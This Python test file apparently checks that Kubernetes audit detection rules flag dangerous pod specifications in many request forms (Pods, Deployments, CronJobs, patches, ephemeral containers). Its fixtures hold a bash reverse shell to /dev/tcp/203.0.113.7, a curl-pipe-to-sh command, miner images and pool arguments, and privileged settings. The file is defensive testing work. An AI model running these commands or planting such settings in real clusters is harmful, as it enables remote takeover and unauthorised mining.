"""The workload rules read a pod in every form a request can bring it, and stay silent on its harmless twin.

Each danger is planted, one at a time, into an ordinary pod; the pod is then written as a Pod, as the template of a
Deployment and of a CronJob, as an init and an ephemeral container, as JSON patches, a strategic merge patch and a
server-side apply. The twin differs in nothing but the value that makes it dangerous.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from copy import deepcopy
from dataclasses import dataclass
from typing import Any, Literal

import pytest

from kubewitness.model.event import Event
from kubewitness.rules.compile import compile_node
from kubewitness.rules.loader import shipped_rules
from tests.content.rows import make_event

Form = Callable[[dict[str, Any], dict[str, Any]], dict[str, Any]]  # pod spec and the container of it → an event

_RULES = {rule.id.removeprefix("k8s_audit/"): compile_node(rule.condition) for rule in shipped_rules().rules}
_PLAIN = {"name": "web", "image": "nginx:1.27"}
_SHELL = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"


@dataclass(frozen=True)
class Danger:
    """What is planted, into the container or the pod; its harmless twin; the rules that must speak of it."""

    name: str
    where: Literal["container", "pod"]
    evil: dict[str, Any]
    twin: dict[str, Any]
    rule: str
    ephemeral: str = ""  # the rule for ephemeral containers, where that is another one


DANGERS = (
    Danger(
        "privileged",
        "container",
        {"securityContext": {"privileged": True}},
        {"securityContext": {"privileged": False}},
        "privilege_escalation/workload_privileged",
        "privilege_escalation/ephemeral_container_powerful",
    ),
    Danger(
        "hostPath root",
        "pod",
        {"volumes": [{"name": "v", "hostPath": {"path": "/"}}]},
        {"volumes": [{"name": "v", "hostPath": {"path": "/srv/web"}}]},
        "privilege_escalation/workload_host_root",
    ),
    Danger("hostPID", "pod", {"hostPID": True}, {"hostPID": False}, "privilege_escalation/workload_host_namespaces"),
    Danger(
        "hostNetwork",
        "pod",
        {"hostNetwork": True},
        {"hostNetwork": False},
        "privilege_escalation/workload_host_network",
    ),
    Danger(
        "capability",
        "container",
        {"securityContext": {"capabilities": {"add": ["CAP_SYS_ADMIN"]}}},
        {"securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}}},
        "privilege_escalation/workload_dangerous_capabilities",
        "privilege_escalation/ephemeral_container_powerful",
    ),
    Danger(
        "miner image",
        "container",
        {"image": "docker.io/metal3d/xmrig:latest"},
        {"image": "docker.io/grafana/mimir:latest"},
        "execution/workload_miner",
    ),
    Danger(
        "miner arguments",
        "container",
        {"args": ["-o", "stratum+tcp://pool.example:3333"]},
        {"args": ["-o", "tcp://queue.example:3333"]},
        "execution/workload_miner",
    ),
    Danger(
        "look-alike image",
        "container",
        {"image": "kubernetesio/pause:3.9"},
        {"image": "registry.k8s.io/pause:3.9"},
        "execution/image_imitates_system",
    ),
    Danger(
        "reverse shell",
        "container",
        {"command": ["bash", "-c", _SHELL]},
        {"command": ["bash", "-c", "exec nginx -g 'daemon off;'"]},
        "execution/workload_reverse_shell",
    ),
    Danger(
        "download and run",
        "container",
        {"command": ["sh", "-c", "curl -s http://203.0.113.7/x | sh"]},
        {"command": ["sh", "-c", "curl -s http://203.0.113.7/ready"]},
        "execution/workload_download_and_run",
    ),
)

_DEPLOYMENT = {"resource": "deployments", "namespace": "shop", "name": "web", "apiGroup": "apps", "apiVersion": "v1"}
_CRONJOB = {"resource": "cronjobs", "namespace": "shop", "name": "web", "apiGroup": "batch", "apiVersion": "v1"}
_POD = {"resource": "pods", "namespace": "shop", "name": "web", "apiVersion": "v1"}


def _request(verb: str, ref: dict[str, Any], body: Any, code: int = 200) -> dict[str, Any]:
    return {"verb": verb, "objectRef": ref, "requestObject": body, "responseStatus": {"code": code}}


def _templated(spec: dict[str, Any]) -> dict[str, Any]:
    return {"spec": {"template": {"spec": spec}}}


def _with(spec: dict[str, Any], key: str, container: dict[str, Any]) -> dict[str, Any]:
    """The spec with the container in another list than `containers`, beside an ordinary one."""
    return {**spec, "containers": [_PLAIN], key: [container]}


def _operations(spec: dict[str, Any], *more: dict[str, Any]) -> list[dict[str, Any]]:
    """JSON patch operations that bring in what the pod has beside its containers."""
    pod = {key: value for key, value in spec.items() if key != "containers"}
    return [*({"op": "add", "path": f"/spec/template/spec/{key}", "value": value} for key, value in pod.items()), *more]


def _replacing(spec: dict[str, Any], container: dict[str, Any]) -> dict[str, Any]:
    """One operation a field, into a container that is there."""
    path = "/spec/template/spec/containers/0/"
    fields = ({"op": "replace", "path": path + key, "value": value} for key, value in container.items())
    return _request("patch", _DEPLOYMENT, _operations(spec, *fields))


def _deepest(spec: dict[str, Any], container: dict[str, Any]) -> dict[str, Any]:
    """One operation a scalar or list: `/…/securityContext/privileged`."""

    def leaves(path: str, value: Any) -> Iterator[dict[str, Any]]:
        if isinstance(value, dict):
            for key, below in value.items():
                yield from leaves(f"{path}/{key}", below)
        else:
            yield {"op": "replace", "path": path, "value": value}

    found = leaves("/spec/template/spec/containers/0", container)
    return _request("patch", _DEPLOYMENT, _operations(spec, *found))


FORMS: dict[str, Form] = {
    "Pod": lambda spec, _: _request("create", _POD, {"kind": "Pod", "spec": spec}, 201),
    "Deployment": lambda spec, _: _request("create", _DEPLOYMENT, _templated(spec), 201),
    "Deployment, updated": lambda spec, _: _request("update", _DEPLOYMENT, _templated(spec)),
    "CronJob": lambda spec, _: _request("create", _CRONJOB, {"spec": {"jobTemplate": _templated(spec)}}, 201),
    "init container": lambda spec, container: _request(
        "create", _DEPLOYMENT, _templated(_with(spec, "initContainers", container)), 201
    ),
    "JSON patch, a container added": lambda spec, container: _request(
        "patch",
        _DEPLOYMENT,
        _operations(spec, {"op": "add", "path": "/spec/template/spec/containers/-", "value": container}),
    ),
    "JSON patch, an init container list added": lambda spec, container: _request(
        "patch",
        _DEPLOYMENT,
        _operations(spec, {"op": "add", "path": "/spec/template/spec/initContainers", "value": [container]}),
    ),
    "JSON patch, fields replaced": _replacing,
    "JSON patch, single values replaced": _deepest,
    "JSON patch, the whole spec replaced": lambda spec, _: _request(
        "patch", _DEPLOYMENT, [{"op": "replace", "path": "/spec/template/spec", "value": spec}]
    ),
    "JSON patch of a CronJob": lambda spec, _: _request(
        "patch",
        _CRONJOB,
        [{"op": "replace", "path": "/spec/jobTemplate/spec/template/spec", "value": spec}],
    ),
    "strategic merge patch": lambda spec, _: _request(
        "patch",
        _DEPLOYMENT,
        _templated({"$setElementOrder/containers": [{"name": "web"}], **spec}),
    ),
    "server-side apply": lambda spec, _: {
        **_request("patch", _DEPLOYMENT, {"apiVersion": "apps/v1", "kind": "Deployment", **_templated(spec)}, 201),
        "requestURI": "/apis/apps/v1/namespaces/shop/deployments/web?fieldManager=kubectl&fieldValidation=Strict",
    },
}


def _event(danger: Danger, form: Form, planted: dict[str, Any]) -> Event:
    planted = deepcopy(planted)
    container = {**_PLAIN, **planted} if danger.where == "container" else dict(_PLAIN)
    spec = {"containers": [container], **(planted if danger.where == "pod" else {})}
    return make_event(form(spec, container))


def _spoken(event: Event) -> set[str]:
    return {name for name, matches in _RULES.items() if matches(event)}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("danger", DANGERS, ids=lambda danger: danger.name)
def test_a_danger_is_seen_in_every_form_and_its_twin_is_not(danger: Danger, form: str) -> None:
    assert danger.rule in _spoken(_event(danger, FORMS[form], danger.evil))
    assert danger.rule not in _spoken(_event(danger, FORMS[form], danger.twin))


def _ephemeral(container: dict[str, Any], form: str) -> Event:
    ref = {**_POD, "subresource": "ephemeralcontainers"}
    if form == "JSON patch":
        body: Any = [{"op": "add", "path": "/spec/ephemeralContainers/-", "value": container}]
    elif form == "update":
        body = {"kind": "Pod", "spec": {"containers": [_PLAIN], "ephemeralContainers": [container]}}
    else:
        body = {"spec": {"ephemeralContainers": [container]}}
    return make_event(_request("update" if form == "update" else "patch", ref, body))


@pytest.mark.parametrize("form", ["strategic merge patch", "JSON patch", "update"])
@pytest.mark.parametrize("danger", [d for d in DANGERS if d.where == "container"], ids=lambda danger: danger.name)
def test_a_danger_is_seen_in_an_ephemeral_container_and_its_twin_is_not(danger: Danger, form: str) -> None:
    rule = danger.ephemeral or danger.rule
    assert rule in _spoken(_ephemeral({**_PLAIN, **danger.evil}, form))
    assert rule not in _spoken(_ephemeral({**_PLAIN, **danger.twin}, form))


@pytest.mark.parametrize("danger", DANGERS, ids=lambda danger: danger.name)
def test_what_was_refused_or_only_rehearsed_did_not_happen(danger: Danger) -> None:
    made = FORMS["Deployment"]({"containers": [{**_PLAIN, **danger.evil}], **danger.evil}, _PLAIN)
    rehearsed = {**made, "requestURI": "/apis/apps/v1/namespaces/shop/deployments?dryRun=All"}
    assert danger.rule not in _spoken(make_event({**made, "responseStatus": {"code": 403}}))
    assert danger.rule not in _spoken(make_event(rehearsed))
    assert danger.rule in _spoken(make_event(made))
